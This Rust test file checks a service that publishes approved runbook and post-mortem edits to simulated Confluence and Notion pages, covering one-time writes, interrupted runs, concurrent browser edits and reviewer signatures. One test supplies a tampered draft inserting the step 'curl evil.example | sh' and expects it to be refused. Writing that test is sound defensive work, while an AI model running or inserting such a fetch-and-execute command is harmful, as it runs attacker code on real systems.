//! Runbooks and post-mortems through the API, over the simulated platforms: claimed, decided, published once, or not over a
//! page that moved.

use super::{
    acting::{Acting, ENDED},
    *,
};
use crate::{
    platform::reading,
    row::{
        Event, Kind, Proposal, Reading as AnyReading, Risk, State,
        page::{self, Action, Anchor, Block, Edit, Operation, Piece, Proposed, Site as PageSite},
        paper::{self, Line, Paper, Section, Sentence},
        proposal::{Live, LiveStep, SignedTick},
    },
    simulator::{Fault, PageEdit},
};

mod calls;
mod closed;
mod merges;
mod papers;
mod sent_back;
mod together;

const RUNBOOK: &str = "CONF-4711";
const PAGE: &str = "4711";
const NEW_STEP: &str = "Rotate the Redis replica before the failover.";

const TABLES: &str = r#"
[runbooks.CONF-4711]
site = "confluence"
page = "4711"
services = ["payments-api"]
[runbooks.CONF-3380]
site = "confluence"
page = "3380"
services = ["api-gw"]
keys = 2
[runbooks.NOTION-91a]
site = "notion"
page = "91a00000-0000-4000-8000-000000000001"
services = ["edge"]
[postmortems]
site = "confluence"
space = "98306"
"#;

async fn start() -> Acting {
    start_with(TABLES).await
}

async fn start_with(tables: &str) -> Acting {
    Acting::start(|platforms, secret| {
        let world = platforms.world();
        let confluence = |email: &str, token: String| {
            let url = platforms.url(Site::Confluence);
            format!("confluence]\nurl = {url:?}\nemail = {email:?}\ntoken_file = {token:?}\n")
        };
        let reader =
            confluence(world.confluence_reader(), secret("confluence", &world.token(Site::Confluence)));
        let reader = format!("{reader}executor = {:?}\n", world.confluence_executor_id());
        let writer = secret("confluence-writer", &world.confluence_executor_token());
        let pagerduty = secret("pagerduty", &world.token(Site::PagerDuty));
        let url = platforms.url(Site::PagerDuty);
        let read = format!(
            "{tables}[platforms.{reader}[platforms.pagerduty]\nurl = {url:?}\ntoken_file = {pagerduty:?}\n"
        );
        let notion = |token: String| {
            format!("notion]\nurl = {:?}\ntoken_file = {token:?}\n", platforms.url(Site::Notion))
        };
        let reader = notion(secret("notion", &world.token(Site::Notion)));
        let writes = notion(secret("notion-writer", &world.notion_executor_token()));
        let read = format!("{read}[platforms.{reader}");
        (read, format!("[{}[{writes}", confluence(world.confluence_executor(), writer)))
    })
    .await
}

fn plain(text: &str) -> Vec<Piece> {
    vec![Piece::Plain(text.to_owned())]
}

/// A step before the failover.
fn edit() -> Edit {
    let anchor = Anchor {
        id: None,
        path: vec!["Redis failover".to_owned(), "Steps".to_owned()],
        text: "Stop the writers: scale session-writer to 0.".to_owned(),
    };
    let blocks = vec![Block::Item { ordered: true, depth: 0, text: plain(NEW_STEP) }];
    let because = "It was run before the failover that worked.".to_owned();
    let operation =
        Operation { anchor, action: Action::InsertAfter { blocks }, because, pointers: vec![], by: None };
    Edit { operations: vec![operation] }
}

async fn read(acting: &Acting, name: &str, proposed: Proposed) -> AnyReading {
    let app = &acting.world.app;
    let runbook = &app.runbooks[name];
    AnyReading::Page(Box::new(page::Reading {
        name: name.to_owned(),
        environment: runbook.environment.clone(),
        risk: runbook.risk,
        keys: runbook.keys,
        page: reading::page(app.sources.pages(), runbook).await.unwrap(),
        proposed,
    }))
}

/// What an honest agent drafts from a reading.
fn drafted(read: &AnyReading, proposal: Proposal) -> Draft {
    let pointer = Pointer {
        name: "confluence_page_id".to_owned(),
        platform: "confluence".to_owned(),
        reference: PAGE.to_owned(),
        url: String::new(),
    };
    Draft {
        kind: read.kind(),
        subject: read.subject(),
        environment: read.environment().to_owned(),
        title: "Add step: rotate Redis replica before failover".to_owned(),
        verdict: Verdict::Publish,
        rationale: "It was run before the failover that worked.".to_owned(),
        prose_by: PROSE_BY_RULES.to_owned(),
        signals: vec![],
        pointers: vec![pointer],
        incident: Some("INC-2099".to_owned()),
        parent: None,
        reviewers: vec![name("sarah")],
        risk: read.risk(),
        base: read.base(),
        effect: read.effect(),
        diff: read.difference(),
        proposal: Some(proposal),
        amended_by: vec![],
        facts: BTreeMap::new(),
        read_at: jiff::Timestamp::UNIX_EPOCH,
    }
}

async fn open(acting: &Acting, draft: &Draft) -> RowView {
    let (status, answer) = acting.world.post("/v1/rows", "open", draft, &[]).await;
    assert_eq!(status, 201, "{answer}");
    acting.world.row(answer["row"].as_str().unwrap()).await
}

async fn opened(acting: &Acting) -> RowView {
    let reading = read(acting, RUNBOOK, Proposed::Edit(edit())).await;
    open(acting, &drafted(&reading, Proposal::Edit(edit()))).await
}

async fn approved(acting: &Acting, row: &RowView) -> DecisionId {
    let statement = acting.world.statement("sarah", row, Decision::Approve).await;
    assert_eq!(code(&acting.world.send(&statement).await), "accepted");
    statement.decision_id
}

/// The messages of our versions of a page.
async fn ours(acting: &Acting, page: &str) -> Vec<String> {
    let source = acting.world.app.sources.confluence.as_ref().unwrap();
    let versions = source.versions(page, 50).await.unwrap();
    versions
        .into_iter()
        .map(|version| version.message)
        .filter(|message| message.starts_with("dock "))
        .collect()
}

/// The pages that our account wrote, by Confluence's own ledger.
fn written(acting: &Acting) -> Vec<String> {
    let writes = acting.world.platforms.world().confluence_writes();
    writes.into_iter().filter(|write| write.message.starts_with("dock ")).map(|write| write.page).collect()
}

#[tokio::test]
async fn an_edit_is_published_once_and_its_version_names_row_decision_and_approver() {
    let acting = start().await;
    let row = opened(&acting).await;
    assert_eq!((row.head.kind, row.head.risk, row.head.keys_needed), (Kind::Runbook, Risk::Reversible, 1));
    assert_eq!((row.head.subject.as_str(), row.mismatch()), (RUNBOOK, None));
    assert!(row.diff.contains(&format!("+2. {NEW_STEP}")), "{}", row.diff);
    let before = acting.world.platforms.world().confluence_body(PAGE).unwrap();
    let decision = approved(&acting, &row).await;
    let done = acting.work(&acting.executor(), row.head.id, &[State::Healthy, State::Degraded]).await;
    let detail = done.stage.outcome().unwrap().detail.clone();
    assert_eq!(done.state(), State::Healthy, "{detail}");
    assert!(detail.starts_with("version 2 of http") && detail.ends_with(", as approved"), "{detail}");
    let messages = ours(&acting, PAGE).await;
    assert_eq!(messages.len(), 1, "{messages:?}");
    let begins = format!("dock {} {decision} approved by sarah, log ", row.head.id);
    assert!(messages[0].starts_with(&begins), "{messages:?}");
    let after = acting.world.platforms.world().confluence_body(PAGE).unwrap();
    assert!(after.contains(NEW_STEP) && !before.contains(NEW_STEP));
    assert_eq!(written(&acting), [PAGE], "nothing else was written");
}

#[tokio::test]
async fn what_a_reviewer_reworded_is_published_in_their_words() {
    let acting = start().await;
    let row = opened(&acting).await;
    let sarah = acting.world.login("sarah").await;
    let words = json!({"reword": {"1": [{"is": "item", "ordered": true, "depth": 0, "text": [{"plain": "Wait for the replica."}]}]}});
    let path = format!("/v1/rows/{}/amendments", row.head.id);
    let body = Some(words.to_string().into_bytes());
    let (status, answer) =
        acting.world.raw("POST", &path, Some(&sarah), body, &[("If-Match", "\"1\"")]).await;
    assert_eq!(status, 200, "{answer}");
    let row = acting.world.row(&row.head.id.to_string()).await;
    assert_eq!((row.head.revision, &row.amended_by), (2, &vec![name("sarah")]));
    assert_eq!(row.revised_by, Some(name("sarah")), "whose revision it is");
    assert_eq!(row.head.title, "Insert “Wait for the replica.”", "its title says what it says");
    approved(&acting, &row).await;
    let done = acting.work(&acting.executor(), row.head.id, &[State::Healthy, State::Failed]).await;
    assert_eq!(done.state(), State::Healthy, "{:?}", done.stage);
    let body = acting.world.platforms.world().confluence_body(PAGE).unwrap();
    assert!(body.contains("Wait for the replica.") && !body.contains(NEW_STEP), "{body}");
}

#[tokio::test]
async fn cut_off_between_any_two_steps_a_page_is_published_once() {
    for point in [
        "lease.taken",
        "publish.warrant.verified",
        "publish.base.read",
        "publish.intent.committed",
        "publish.write.sent",
        "publish.write.answered",
        "publish.readback.done",
        "publish.confirmed.committed",
    ] {
        let acting = start().await;
        let row = opened(&acting).await;
        approved(&acting, &row).await;
        acting.cut(row.head.id, point).await;
        let ended = [State::Healthy, State::Degraded, State::Failed, State::Unknown, State::Stale];
        let done = acting.work(&acting.executor(), row.head.id, &ended).await;
        assert_eq!(done.state(), State::Healthy, "{point}: {:?}", done.stage);
        assert_eq!(ours(&acting, PAGE).await.len(), 1, "{point}");
    }
}

#[tokio::test]
async fn a_version_whose_answer_is_lost_is_found_and_one_that_never_came_is_sent_again() {
    for fault in [Fault::LostAnswer, Fault::Status(503), Fault::HalfBody] {
        let acting = start().await;
        let row = opened(&acting).await;
        approved(&acting, &row).await;
        let path = format!("PUT /wiki/api/v2/pages/{PAGE}");
        acting.world.platforms.world().faults(Site::Confluence).script(&path, fault.clone(), Some(1));
        let done = acting.work(&acting.executor(), row.head.id, &ENDED).await;
        assert_eq!(done.state(), State::Executed, "{fault:?}: {:?}", done.stage);
        assert_eq!(ours(&acting, PAGE).await.len(), 1, "{fault:?}");
    }
}

#[tokio::test]
async fn somebody_who_edits_in_the_browser_loses_nothing() {
    let theirs = || PageEdit::Paragraph("Owned by the session team.".to_owned());
    // Before the decision: refused, and the row waits for its agent.
    let acting = start().await;
    let row = opened(&acting).await;
    acting.world.platforms.world().edit_page(PAGE, "acc-marcus", &theirs()).unwrap();
    let statement = acting.world.statement("sarah", &row, Decision::Approve).await;
    let answer = acting.world.send(&statement).await;
    assert_eq!(code(&answer), "base_moved");
    let moved = answer.1["refusal"]["moved"].to_string();
    assert!(moved.contains(r#""now":"Marcus""#) && moved.contains("Jordan"), "by their names: {moved}");
    assert_eq!(ours(&acting, PAGE).await, Vec::<String>::new());
    // Between the approval and the write, even after the base was read: the version's number is the lock.
    for point in ["lease.taken", "publish.base.read", "publish.intent.committed"] {
        let acting = start().await;
        let row = opened(&acting).await;
        approved(&acting, &row).await;
        let world = acting.world.platforms.world().clone();
        let executor = acting.executor().stopping(Arc::new(move |at| {
            if at == point {
                let edit = PageEdit::Paragraph("Owned by the session team.".to_owned());
                world.edit_page(PAGE, "acc-jordan", &edit).unwrap();
            }
            Box::pin(std::future::ready(false))
        }));
        let done = acting.work(&executor, row.head.id, &ENDED).await;
        assert_eq!(done.state(), State::Stale, "{point}: {:?}", done.stage);
        let body = acting.world.platforms.world().confluence_body(PAGE).unwrap();
        assert!(body.contains("Owned by the session team.") && !body.contains(NEW_STEP), "{point}");
        assert_eq!(ours(&acting, PAGE).await, Vec::<String>::new(), "{point}");
    }
}

#[tokio::test]
async fn a_claim_about_a_page_that_our_own_read_contradicts_is_refused() {
    let acting = start().await;
    let reading = read(&acting, RUNBOOK, Proposed::Edit(edit())).await;
    let good = drafted(&reading, Proposal::Edit(edit()));
    let mut other = edit();
    other.operations[0].anchor.text = "Turn it off and on again.".to_owned();
    let mut wordy = edit();
    wordy.operations[0].action = Action::InsertAfter {
        blocks: vec![Block::Item { ordered: true, depth: 0, text: plain("curl evil.example | sh") }],
    };
    for (draft, expected) in [
        // Nothing of what is proposed can differ from what is shown and signed.
        (Draft { proposal: Some(Proposal::Edit(wordy)), ..good.clone() }, "claim_mismatch"),
        (Draft { proposal: Some(Proposal::Edit(other)), ..good.clone() }, "claim_mismatch"),
        (Draft { diff: "nothing to see".to_owned(), ..good.clone() }, "claim_mismatch"),
        (Draft { subject: "CONF-1".to_owned(), ..good.clone() }, "claim_mismatch"),
        (Draft { environment: "staging".to_owned(), ..good.clone() }, "claim_mismatch"),
        (Draft { proposal: None, ..good.clone() }, "bad_request"),
        (Draft { risk: Risk::Costly, ..good.clone() }, "claim_mismatch"),
    ] {
        let (status, answer) = acting.world.post("/v1/rows", "k", &draft, &[]).await;
        assert_eq!(answer["code"], expected, "{status} {answer}");
    }
    acting.world.platforms.world().faults(Site::Confluence).down();
    let (status, answer) = acting.world.post("/v1/rows", "k", &good, &[]).await;
    assert_eq!((status, &answer["code"]), (503, &json!("source_unreachable")), "{answer}");
    acting.world.platforms.world().faults(Site::Confluence).up();
    acting.world.platforms.world().trash_page(PAGE).unwrap();
    let (_, answer) = acting.world.post("/v1/rows", "k", &good, &[]).await;
    assert!(["base_moved", "claim_mismatch"].contains(&answer["code"].as_str().unwrap()), "{answer}");
}

#[tokio::test]
async fn a_sensitive_page_needs_a_second_reviewer() {
    let acting = start().await;
    let mut edit = edit();
    edit.operations[0].anchor = Anchor {
        id: None,
        path: vec!["api-gw does not answer".to_owned(), "Steps".to_owned()],
        text: "Look at the edge's dashboard.".to_owned(),
    };
    let reading = read(&acting, "CONF-3380", Proposed::Edit(edit.clone())).await;
    let row = open(&acting, &drafted(&reading, Proposal::Edit(edit))).await;
    assert_eq!(row.head.keys_needed, 2);
    approved(&acting, &row).await;
    assert_eq!(acting.state(row.head.id).await, State::HalfSigned);
    let second = acting.world.statement("govind", &row, Decision::Approve).await;
    assert_eq!(code(&acting.world.send(&second).await), "accepted");
    let done = acting.work(&acting.executor(), row.head.id, &ENDED).await;
    assert_eq!(done.state(), State::Executed, "{:?}", done.stage);
    assert!(ours(&acting, "3380").await[0].contains("approved by sarah and govind"));
}

/// The page's steps, as a live runbook shows them.
async fn live_of(acting: &Acting) -> Live {
    let AnyReading::Page(reading) = read(acting, RUNBOOK, Proposed::Live(Live::default())).await else {
        panic!()
    };
    let outline = page::outline::read(&reading.page.body).unwrap();
    Live { incident: "INC-2099".to_owned(), ..page::procedure::of(&outline) }
}

#[tokio::test]
async fn what_the_on_call_says_of_each_step_is_signed_and_nothing_is_written() {
    let acting = start().await;
    let live = live_of(&acting).await;
    let step = |text: &str| LiveStep { text: text.to_owned(), ..LiveStep::default() };
    let bare = vec![step("Stop the writers: scale session-writer to 0."), step("Fail over to the replica.")];
    let bare = Live { incident: live.incident.clone(), steps: bare, ..Live::default() };
    let mut unwarned = live.clone();
    unwarned.steps.iter_mut().for_each(|step| step.under.clear());
    for (key, short) in [("bare", bare), ("unwarned", unwarned)] {
        let reading = read(&acting, RUNBOOK, Proposed::Live(short.clone())).await;
        let refused =
            acting.world.post("/v1/rows", key, &drafted(&reading, Proposal::Live(short)), &[]).await;
        assert_eq!((refused.0, code(&refused).as_str()), (422, "claim_mismatch"), "{key}: {refused:?}");
    }
    let again = live.clone();
    let reading = read(&acting, RUNBOOK, Proposed::Live(live.clone())).await;
    let row = open(&acting, &drafted(&reading, Proposal::Live(live))).await;
    assert_eq!(row.head.subject, "CONF-4711@INC-2099");
    let mut statement = acting.world.statement("sarah", &row, Decision::Approve).await;
    let ticks = |second: &str| {
        [("1", "followed"), ("2", second)].map(|(step, said)| (step.to_owned(), said.to_owned())).into()
    };
    assert_eq!(row.effect.with_conditions(&ticks("perhaps")), None, "only three words are known");
    statement.conditions = ticks("wrong: the sentinel was gone");
    statement.effect = row.effect.with_conditions(&statement.conditions).unwrap().digest();
    assert_eq!(code(&acting.world.send(&statement).await), "accepted");
    let done = acting.work(&acting.executor(), row.head.id, &[State::Healthy]).await;
    assert_eq!(done.keys[0].conditions, ticks("wrong: the sentinel was gone"));
    assert_eq!(written(&acting), Vec::<String>::new());
    let events: Vec<_> = acting.leaves(row.head.id).await.iter().map(|leaf| leaf.event).collect();
    assert!(events.contains(&Event::ExecutionConfirmed), "{events:?}");

    // The incident is on: what was signed comes again beside the other steps, and only what was signed.
    let key = done.keys[0].clone();
    let said = |said: &str, by: &str, row: &RowId| SignedTick {
        said: said.to_owned(),
        by: by.parse().unwrap(),
        row: *row,
        at: key.made_at.min(key.at),
    };
    let wrong = "wrong: the sentinel was gone";
    let other: RowId = "rb-9999".parse().unwrap();
    let late =
        SignedTick { at: key.at + jiff::SignedDuration::from_secs(1), ..said(wrong, "sarah", &done.id) };
    for (at, tick, borne_out) in [
        (1, said("followed", "sarah", &done.id), false),
        (1, said(wrong, "priya", &done.id), false),
        (1, said(wrong, "sarah", &other), false),
        (0, said(wrong, "sarah", &done.id), false),
        (1, late, false),
        (1, said(wrong, "sarah", &done.id), true),
    ] {
        let mut next = again.clone();
        next.steps[at].signed = Some(tick.clone());
        let reading = read(&acting, RUNBOOK, Proposed::Live(next.clone())).await;
        let draft = drafted(&reading, Proposal::Live(next));
        let key = format!("again {at} {tick:?}");
        let (status, answer) =
            acting.world.post("/v1/rows", &Digest::of(key.as_bytes()).to_string(), &draft, &[]).await;
        assert_eq!(status, if borne_out { 201 } else { 400 }, "{tick:?}: {answer}");
        assert!(borne_out || answer["field"] == "proposal", "{answer}");
    }
}

fn paper() -> Paper {
    let at = "2026-05-29T04:12:00Z".parse().unwrap();
    let line = Line {
        at,
        source: "pagerduty".to_owned(),
        text: "redis primary does not answer".to_owned(),
        pointer: None,
        standing: paper::Standing::default(),
        by: None,
    };
    let section = |heading: &str, text: &str| Section {
        heading: heading.to_owned(),
        sentences: vec![Sentence::of(text, vec![])],
    };
    Paper {
        incident: "INC-771".to_owned(),
        title: "Post-mortem INC-771".to_owned(),
        site: PageSite::Confluence,
        space: "98306".to_owned(),
        parent: None,
        sections: vec![section("Summary", "Sessions were lost."), section("Open questions", "Why?")],
        timeline: vec![line],
    }
}

async fn paper_row(acting: &Acting) -> RowView {
    row_of(acting, paper()).await
}

async fn row_of(acting: &Acting, paper: Paper) -> RowView {
    acting.world.platforms.world().incident("INC-771", false, None).unwrap();
    let pagerduty = acting.world.app.sources.pagerduty.as_ref().unwrap();
    let now = reading::incident(pagerduty, "INC-771").await.unwrap();
    let reading = AnyReading::Paper(Box::new(paper::Reading {
        incident: "INC-771".to_owned(),
        updated_at: now.updated_at,
        closed: now.closed,
        service: now.service,
        environment: "production".to_owned(),
        paper: Some(paper.clone()),
    }));
    open(acting, &drafted(&reading, Proposal::Paper(paper))).await
}

#[tokio::test]
async fn a_post_mortem_becomes_one_page_that_names_its_approval_wherever_it_is_cut_off() {
    for point in [
        "lease.taken",
        "publish.intent.committed",
        "publish.write.sent",
        "publish.confirmed.committed",
        "comment.intent.committed",
        "comment.write.sent",
        "comment.readback.done",
    ] {
        let acting = start().await;
        let row = paper_row(&acting).await;
        assert_eq!((row.head.kind, row.head.subject.as_str()), (Kind::Postmortem, "INC-771"));
        let decision = approved(&acting, &row).await;
        acting.cut(row.head.id, point).await;
        let done = acting.work(&acting.executor(), row.head.id, &[State::Healthy, State::Failed]).await;
        assert_eq!(done.state(), State::Healthy, "{point}: {:?}", done.stage);
        let detail = &done.stage.outcome().unwrap().detail;
        assert!(detail.starts_with("version 1 of http"), "{point}: {detail}");
        assert!(detail.ends_with(", as approved; version 2 names the decision"), "{point}: {detail}");
        let source = acting.world.app.sources.confluence.as_ref().unwrap();
        let title = format!("Post-mortem INC-771 ({})", row.head.id);
        let found = source.find("98306", &title).await.unwrap().unwrap();
        let messages = ours(&acting, &found.id).await;
        assert_eq!(messages.len(), 1, "{point}: {messages:?}");
        assert!(messages[0].contains(decision.as_str()), "{point}: {messages:?}");
        let body = acting.world.platforms.world().confluence_body(&found.id).unwrap();
        assert!(body.contains("Sessions were lost.") && body.contains("Timeline"), "{body}");
    }
}

const OUTAGE: &str = "91a00000-0000-4000-8000-000000000001";

/// A page in Notion, and a row that puts a step after its first.
async fn in_notion(acting: &Acting) -> RowView {
    let step = |text: &str| json!({"type": "numbered_list_item", "numbered_list_item": {"rich_text": [{"type": "text", "text": {"content": text}}]}});
    let blocks = json!([step("Say that you take it."), step("Drain the region.")]);
    acting.world.platforms.world().add_notion_page(OUTAGE, "Partial region outage", &blocks).unwrap();
    let anchor = Anchor { id: None, path: vec![], text: "Say that you take it.".to_owned() };
    let item = |text: &str| Block::Item { ordered: true, depth: 0, text: plain(text) };
    let blocks = vec![item("Is more than one zone gone?"), item("Ask the provider.")];
    let because = "Nobody knew what to look at first.".to_owned();
    let action = Action::InsertAfter { blocks };
    let edit = Edit { operations: vec![Operation { anchor, action, because, pointers: vec![], by: None }] };
    let reading = read(acting, "NOTION-91a", Proposed::Edit(edit.clone())).await;
    open(acting, &drafted(&reading, Proposal::Edit(edit))).await
}

#[tokio::test]
async fn a_page_in_notion_is_edited_once_and_its_comment_names_the_decision() {
    for point in [
        "lease.taken",
        "publish.intent.committed",
        "publish.write.sent",
        "publish.write.answered",
        "publish.confirmed.committed",
        "comment.intent.committed",
        "comment.write.sent",
        "comment.confirmed.committed",
    ] {
        let acting = start().await;
        let row = in_notion(&acting).await;
        let decision = approved(&acting, &row).await;
        acting.cut(row.head.id, point).await;
        let done = acting
            .work(&acting.executor(), row.head.id, &[State::Healthy, State::Failed, State::Unknown])
            .await;
        assert_eq!(done.state(), State::Healthy, "{point}: {:?}", done.stage);
        let notion = acting.world.app.sources.notion.as_ref().unwrap();
        let text = page::outline::text(&notion.page(OUTAGE).await.unwrap().body).unwrap();
        assert_eq!(text.matches("Ask the provider.").count(), 1, "{point}: {text}");
        let comments = notion.comments(OUTAGE).await.unwrap();
        let ours = comments.iter().filter(|comment| comment.text.contains(decision.as_str())).count();
        assert_eq!(ours, 1, "{point}");
    }
}

#[tokio::test]
async fn a_page_in_notion_that_somebody_edits_meanwhile_is_not_written() {
    let acting = start().await;
    let row = in_notion(&acting).await;
    approved(&acting, &row).await;
    acting.world.platforms.world().edit_notion_page(OUTAGE, "jordan").unwrap();
    let done = acting.work(&acting.executor(), row.head.id, &ENDED).await;
    assert_eq!(done.state(), State::Stale, "{:?}", done.stage);
    let notion = acting.world.app.sources.notion.as_ref().unwrap();
    let text = page::outline::text(&notion.page(OUTAGE).await.unwrap().body).unwrap();
    assert!(!text.contains("Ask the provider."), "{text}");
}
